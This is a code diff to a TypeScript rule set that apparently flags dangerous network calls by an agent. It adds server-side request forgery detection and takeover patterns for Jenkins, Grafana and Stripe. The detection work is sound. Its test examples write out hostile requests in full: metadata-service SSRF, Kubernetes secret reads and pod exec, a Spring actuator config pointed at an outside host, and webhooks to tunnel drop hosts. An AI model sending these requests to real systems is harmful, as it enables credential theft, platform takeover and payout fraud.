@@ -8,6 +8,7 @@ import { searchTerms } from './credential.js';
 import { isJsonObject, type NetworkCall, type UnknownCall } from '../toolcall.js';
 import { canonicalPath, classifyPath } from '../knowledge/paths.js';
 import { classifyHost, destinationOf, EXFIL_KINDS, firstUrl, urlPath } from '../knowledge/hosts.js';
+import { percentDecoded } from '../shell/decoders.js';
 import { credentialHeader } from '../knowledge/secrets.js';
 import { EMAIL_ADDRESS, PERSONAL_MAILBOX, csvRows } from '../knowledge/payloads.js';
 
@@ -370,6 +371,22 @@ function requestOf(table: readonly ApiRequest[], call: NetworkCall): string | un
   return hit ? `${call.method} ${url.slice(0, 160)} (${hit.what})` : undefined;
 }
 
+/**
+ * A request that hands an application a URL to fetch for it (`/proxy?url=…`, `/render?target=…`) naming the metadata
+ * service or an API that hands out root on its own host: server-side request forgery, the app's network position used.
+ */
+function forwardedToInternal(call: NetworkCall): string | undefined {
+  const q = call.url.indexOf('?');
+  if (q < 0) return undefined;
+  for (const pair of call.url.slice(q + 1, q + 4097).split('&').slice(0, 32)) {
+    const value = percentDecoded(pair.slice(pair.indexOf('=') + 1));
+    if (!/^https?:\/\//i.test(value)) continue;
+    const d = destinationOf(value);
+    if (d && (d.kind === 'metadata' || ((d.kind === 'loopback' || d.kind === 'private') && d.port !== undefined && ROOT_API_PORTS.has(d.port)))) return `${call.method} ${call.url.slice(0, 160)} (fetches ${value.slice(0, 120)})`;
+  }
+  return undefined;
+}
+
 /** Infrastructure API requests that answer with the platform's secrets or run code (PX-CALL-044), by path, query and body. */
 const SECRET_APIS: readonly ApiRequest[] = [
   { what: "Kubernetes secrets", path: /^\/api\/v1\/(?:namespaces\/[^/]+\/)?secrets(?:\/[^/]+)?$/, method: ['GET'] },
@@ -419,6 +436,10 @@ const PLATFORM_TAKEOVERS: readonly ApiRequest[] = [
   { what: 'every alert silenced', method: ['POST'], path: /^\/api\/v2\/silences$/, body: /"value"\s*:\s*"\.[*+]"\s*,\s*"isRegex"\s*:\s*true/ },
   { what: 'every metric series deleted', method: ['POST', 'PUT'], path: /^\/api\/v1\/admin\/tsdb\/delete_series$/ },
   { what: "a zone's security switched off", method: ['PATCH', 'PUT'], path: /\/settings\/(?:security_level|waf|ssl|always_use_https|browser_check)$/, body: /"value"\s*:\s*"(?:off|essentially_off)"/ },
+  // tokens and keys minted for someone else or for ever, and a new bank account for payouts
+  { what: "an API token minted for a Jenkins user", method: ['POST'], path: /^\/user\/[^/]+\/descriptorbyname\/jenkins\.security\.apitokenproperty\/generatenewtoken$/ },
+  { what: 'an administrator API key', method: ['POST'], path: /^\/api\/auth\/keys$/, body: /"role"\s*:\s*"Admin"/ },
+  { what: 'a bank account added for payouts', method: ['POST'], path: /^\/v1\/accounts\/[^/]+\/external_accounts$/ },
 ];
 
 export const RULES: readonly Rule[] = [
@@ -1106,10 +1127,10 @@ export const RULES: readonly Rule[] = [
     id: 'PX-CALL-044', name: 'infrastructure-api-hands-out-secrets-or-runs-code', score: 80, tactic: 'credential_access', technique: 'T1552.007',
     message: "Asks an infrastructure API for its secrets, or has it run code: a cluster's secrets, a pod's shell, a key-value store's whole tree, password fields of a search index, a database's user records, a Spring app's environment or heap",
     why: 'These endpoints answer with every credential the platform holds, or run what they are given, to whoever can reach them: one request is the whole store.',
-    check: (i) => (i.call.kind === 'network' ? requestOf(SECRET_APIS, i.call) : undefined),
+    check: (i) => (i.call.kind === 'network' ? requestOf(SECRET_APIS, i.call) ?? forwardedToInternal(i.call) : undefined),
     examples: {
-      fire: [{ Network: { method: 'GET', url: 'https://10.0.4.2:6443/api/v1/secrets', headers: { Authorization: 'Bearer eyJhbGciOi' } } }, { Network: { method: 'GET', url: 'https://k8s.internal:6443/api/v1/namespaces/ops/secrets/db-root' } }, { Network: { method: 'POST', url: 'https://k8s.internal:6443/api/v1/namespaces/web/pods/web-1/exec?command=sh' } }, { Network: { method: 'GET', url: 'http://consul.internal:8500/v1/kv/?recurse' } }, { Network: { method: 'POST', url: 'https://es.internal:9200/accounts/_search', body: '{"_source":["email","password_hash"],"size":10000}' } }, { Network: { method: 'GET', url: 'http://couch.internal:5984/_users/_all_docs?include_docs=true' } }, { Network: { method: 'GET', url: 'http://127.0.0.1:8080/actuator/heapdump' } }, { Network: { method: 'POST', url: 'http://127.0.0.1:8080/actuator/env', body: '{"name":"spring.cloud.bootstrap.location","value":"http://203.0.113.9/b.yml"}' } }],
-      quiet: [{ Network: { method: 'GET', url: 'https://10.0.4.2:6443/api/v1/namespaces/web/pods', headers: { Authorization: 'Bearer eyJhbGciOi' } } }, { Network: { method: 'GET', url: 'http://consul.internal:8500/v1/kv/config/web/max_conns' } }, { Network: { method: 'POST', url: 'https://es.internal:9200/logs-*/_search', body: '{"query":{"match":{"level":"error"}}}' } }, { Network: { method: 'GET', url: 'http://localhost:8080/actuator/health' } }, { Network: { method: 'GET', url: 'http://couch.internal:5984/orders/_all_docs' } }],
+      fire: [{ Network: { method: 'GET', url: 'https://img.shop.io/proxy?url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F' } }, { Network: { method: 'GET', url: 'https://10.0.4.2:6443/api/v1/secrets', headers: { Authorization: 'Bearer eyJhbGciOi' } } }, { Network: { method: 'GET', url: 'https://k8s.internal:6443/api/v1/namespaces/ops/secrets/db-root' } }, { Network: { method: 'POST', url: 'https://k8s.internal:6443/api/v1/namespaces/web/pods/web-1/exec?command=sh' } }, { Network: { method: 'GET', url: 'http://consul.internal:8500/v1/kv/?recurse' } }, { Network: { method: 'POST', url: 'https://es.internal:9200/accounts/_search', body: '{"_source":["email","password_hash"],"size":10000}' } }, { Network: { method: 'GET', url: 'http://couch.internal:5984/_users/_all_docs?include_docs=true' } }, { Network: { method: 'GET', url: 'http://127.0.0.1:8080/actuator/heapdump' } }, { Network: { method: 'POST', url: 'http://127.0.0.1:8080/actuator/env', body: '{"name":"spring.cloud.bootstrap.location","value":"http://203.0.113.9/b.yml"}' } }],
+      quiet: [{ Network: { method: 'GET', url: 'https://auth.shop.io/authorize?redirect_uri=http%3A%2F%2Flocalhost%3A3000%2Fcallback' } }, { Network: { method: 'GET', url: 'https://10.0.4.2:6443/api/v1/namespaces/web/pods', headers: { Authorization: 'Bearer eyJhbGciOi' } } }, { Network: { method: 'GET', url: 'http://consul.internal:8500/v1/kv/config/web/max_conns' } }, { Network: { method: 'POST', url: 'https://es.internal:9200/logs-*/_search', body: '{"query":{"match":{"level":"error"}}}' } }, { Network: { method: 'GET', url: 'http://localhost:8080/actuator/health' } }, { Network: { method: 'GET', url: 'http://couch.internal:5984/orders/_all_docs' } }],
     },
   },
   {
@@ -1120,14 +1141,15 @@ export const RULES: readonly Rule[] = [
       if (i.call.kind !== 'network') return undefined;
       const taken = requestOf(PLATFORM_TAKEOVERS, i.call);
       if (taken) return taken;
-      // an organization's or repository's webhook pointed at a drop: every push, merge and job event goes there
-      const hook = i.call.method === 'POST' && /^\/(?:orgs\/[^/]+|repos\/[^/]+\/[^/]+|api\/v4\/(?:groups|projects)\/[^/]+)\/hooks$/.test(urlPath(i.call.url.slice(0, 4096)).toLowerCase()) ? firstUrl((i.call.body ?? '').slice(0, 64 * 1024)) : undefined;
+      // an organization's or repository's webhook, or a payment platform's, pointed at a drop: every push, merge, job and
+      // payment event goes there (a form body's URL is percent-encoded)
+      const hook = i.call.method === 'POST' && /^\/(?:orgs\/[^/]+|repos\/[^/]+\/[^/]+|api\/v4\/(?:groups|projects)\/[^/]+)\/hooks$|^\/v1\/webhook_endpoints$/.test(urlPath(i.call.url.slice(0, 4096)).toLowerCase()) ? firstUrl(percentDecoded((i.call.body ?? '').slice(0, 64 * 1024))) : undefined;
       const kind = hook === undefined ? undefined : destinationOf(hook)?.kind;
       return kind !== undefined && EXFIL_KINDS.has(kind) ? `${i.call.method} ${i.call.url.slice(0, 160)} (a webhook to ${hook})` : undefined;
     },
     examples: {
-      fire: [{ Network: { method: 'POST', url: 'https://vault.corp.internal:8200/v1/auth/token/create', headers: { 'X-Vault-Token': 'hvs.x' }, body: '{"policies":["root"]}' } }, { Network: { method: 'DELETE', url: 'https://vault.corp.internal:8200/v1/sys/audit/file' } }, { Network: { method: 'POST', url: 'https://api.github.com/repos/acme/api/keys', body: '{"title":"ci","key":"ssh-ed25519 AAAA x","read_only":false}' } }, { Network: { method: 'DELETE', url: 'https://api.github.com/repos/acme/api/branches/main/protection' } }, { Network: { method: 'POST', url: 'https://cloudresourcemanager.googleapis.com/v1/projects/acme-prod:setIamPolicy', body: '{"policy":{"bindings":[{"role":"roles/owner","members":["user:ops.backup@gmail.com"]}]}}' } }, { Network: { method: 'POST', url: 'http://alertmanager.corp.internal:9093/api/v2/silences', body: '{"matchers":[{"name":"alertname","value":".*","isRegex":true}],"endsAt":"2030-01-01T00:00:00Z"}' } }, { Network: { method: 'POST', url: 'https://api.github.com/orgs/acme/hooks', body: '{"name":"web","config":{"url":"https://relay-7.trycloudflare.com/gh"},"events":["*"]}' } }],
-      quiet: [{ Network: { method: 'POST', url: 'https://api.github.com/repos/acme/api/hooks', body: '{"name":"web","config":{"url":"https://ci.acme.io/github/webhook"},"events":["push"]}' } }, { Network: { method: 'POST', url: 'https://vault.corp.internal:8200/v1/auth/token/create', body: '{"policies":["ci-read"],"ttl":"1h"}' } }, { Network: { method: 'GET', url: 'https://vault.corp.internal:8200/v1/secret/data/web/config' } }, { Network: { method: 'POST', url: 'https://api.github.com/repos/acme/api/keys', body: '{"title":"ci","key":"ssh-ed25519 AAAA x","read_only":true}' } }, { Network: { method: 'POST', url: 'https://api.github.com/repos/acme/api/issues', body: '{"title":"flaky test"}' } }, { Network: { method: 'POST', url: 'http://alertmanager.corp.internal:9093/api/v2/silences', body: '{"matchers":[{"name":"alertname","value":"DiskFull","isRegex":false}],"endsAt":"2025-06-11T10:00:00Z"}' } }, { Network: { method: 'PATCH', url: 'https://api.github.com/repos/acme/api', body: '{"description":"Payments API"}' } }],
+      fire: [{ Network: { method: 'POST', url: 'https://grafana.corp.internal:3000/api/auth/keys', body: '{"name":"sync","role":"Admin","secondsToLive":0}' } }, { Network: { method: 'POST', url: 'https://api.stripe.com/v1/accounts/acct_1Ab/external_accounts', body: 'external_account%5Bobject%5D=bank_account' } }, { Network: { method: 'POST', url: 'https://api.stripe.com/v1/webhook_endpoints', body: 'url=https%3A%2F%2F5d21-193-42-33-17.ngrok-free.app%2Fs&enabled_events%5B%5D=%2A' } }, { Network: { method: 'POST', url: 'https://vault.corp.internal:8200/v1/auth/token/create', headers: { 'X-Vault-Token': 'hvs.x' }, body: '{"policies":["root"]}' } }, { Network: { method: 'DELETE', url: 'https://vault.corp.internal:8200/v1/sys/audit/file' } }, { Network: { method: 'POST', url: 'https://api.github.com/repos/acme/api/keys', body: '{"title":"ci","key":"ssh-ed25519 AAAA x","read_only":false}' } }, { Network: { method: 'DELETE', url: 'https://api.github.com/repos/acme/api/branches/main/protection' } }, { Network: { method: 'POST', url: 'https://cloudresourcemanager.googleapis.com/v1/projects/acme-prod:setIamPolicy', body: '{"policy":{"bindings":[{"role":"roles/owner","members":["user:ops.backup@gmail.com"]}]}}' } }, { Network: { method: 'POST', url: 'http://alertmanager.corp.internal:9093/api/v2/silences', body: '{"matchers":[{"name":"alertname","value":".*","isRegex":true}],"endsAt":"2030-01-01T00:00:00Z"}' } }, { Network: { method: 'POST', url: 'https://api.github.com/orgs/acme/hooks', body: '{"name":"web","config":{"url":"https://relay-7.trycloudflare.com/gh"},"events":["*"]}' } }],
+      quiet: [{ Network: { method: 'POST', url: 'https://grafana.corp.internal:3000/api/auth/keys', body: '{"name":"dash","role":"Viewer","secondsToLive":86400}' } }, { Network: { method: 'POST', url: 'https://api.github.com/repos/acme/api/hooks', body: '{"name":"web","config":{"url":"https://ci.acme.io/github/webhook"},"events":["push"]}' } }, { Network: { method: 'POST', url: 'https://vault.corp.internal:8200/v1/auth/token/create', body: '{"policies":["ci-read"],"ttl":"1h"}' } }, { Network: { method: 'GET', url: 'https://vault.corp.internal:8200/v1/secret/data/web/config' } }, { Network: { method: 'POST', url: 'https://api.github.com/repos/acme/api/keys', body: '{"title":"ci","key":"ssh-ed25519 AAAA x","read_only":true}' } }, { Network: { method: 'POST', url: 'https://api.github.com/repos/acme/api/issues', body: '{"title":"flaky test"}' } }, { Network: { method: 'POST', url: 'http://alertmanager.corp.internal:9093/api/v2/silences', body: '{"matchers":[{"name":"alertname","value":"DiskFull","isRegex":false}],"endsAt":"2025-06-11T10:00:00Z"}' } }, { Network: { method: 'PATCH', url: 'https://api.github.com/repos/acme/api', body: '{"description":"Payments API"}' } }],
     },
   },
 ];
